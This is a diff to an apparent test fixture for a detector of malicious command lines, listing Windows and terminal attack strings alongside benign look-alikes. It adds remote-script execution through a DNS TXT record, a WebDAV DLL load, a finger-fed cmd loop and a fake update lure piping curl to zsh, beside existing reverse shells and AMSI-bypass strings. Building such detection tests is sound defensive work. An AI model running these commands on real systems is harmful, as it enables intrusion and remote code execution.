@@ -45,6 +45,12 @@ const WINDOWS = [
   'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
   'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
   "mshta about:\"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\"",
+  // Unit 42's 2026 notes: a script read from a DNS TXT record; WMI starting a hidden cmd that
+  // mounts a WebDAV share and loads a DLL from it.
+  '"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex((Resolve-DnsName -Type TXT p.x.example -Server 8.8.8.8).Strings -join \'\')"',
+  "pcalua.exe -a \"powershell\" -c \"s=([wmiclass]'Win32_ProcessStartup').CreateInstance();s.ShowWindow=0;([wmiclass]'Win32_Process').Create('cmd /v/c pushd \\\\files.x.example@SSL\\ & rundll32 gc.key,#1',null,s)\"",
+  // cmd running each line a finger server sends (Unit 42, 2026), with no pipe and no cmd before it.
+  'start "" /min for /f "skip=8 delims=" %h in (\'finger lxjXZGpPHp@finger.x.example\') do call %h',
   // The scan switched off with its class's name spelt out of pieces.
   "$w='System.Management.Automation.A';$c='si';$m='Utils';[Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))",
   '(Get-Variable x -ValueOnly)."A`ss`Embly"."GET`TY`Pe"(("{2}{0}{1}" -f \'Amsi\',\'Utils\',\'System.Management.Automation.\'))',
@@ -84,6 +90,8 @@ const TERMINAL = [
   'curl -O https://x.example/stage.sh',
   'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   'nc -e /bin/sh 203.0.113.9 4444',
+  // SHub's lure (Unit 42, 2026): an address decoded inside curl's arguments, fed to zsh.
+  'echo "Downloading Update: https://support.apple.com/downloads/x.dmg" && curl -s $(echo "aHR0cHM6Ly94LmV4YW1wbGUvcw==" | base64 -d) | zsh',
   // A decoder feeding an interpreter; a download substituted into one; Ruby and Node evaluating it.
   'echo cHJpbnQoMSk= | base64 -d | python3',
   'echo ZWNobyBoaQ== | base64 -di | sh',
@@ -151,6 +159,7 @@ const NOT_COMMANDS = [
   'wget https://example.com/x.tar.gz && tar xzf x.tar.gz',
   'curl -LO https://github.com/x/y/releases/download/v1/y.tar.gz',
   'nc -zv example.com 443',
+  'for /f "tokens=*" %i in (\'dir /b *.txt\') do type %i',
   'echo aGVsbG8= | base64 -d',
   '$PSVersionTable.PSVersion.GetType().Assembly.Location',
 ];
